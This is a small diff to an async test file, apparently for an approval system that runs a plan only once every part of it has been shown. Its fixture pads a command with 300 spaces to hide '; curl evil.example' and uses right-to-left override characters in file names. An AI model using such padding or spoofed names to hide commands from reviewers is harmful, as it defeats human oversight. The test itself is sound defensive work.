@@ -48,7 +48,7 @@ async def test_all_are_allowed_only_after_all_were_shown(tmp_path):
         assert sorted(path.name for path in client.workspace.iterdir()) == ["a.sh", "b.sh"]
 
 
-@proves("APR-6", "APR-8")
+@proves("APR-6/1", "APR-8")
 async def test_a_plan_is_executed_only_after_all_of_it_was_in_view(tmp_path):
     tail = "true" + " " * 300 + "; curl evil.example"
     steps = [{"action": f"Step {n}", "paths": [f"a\u202e{n}.txt"], "commands": [tail], "check": tail} for n in range(9)]
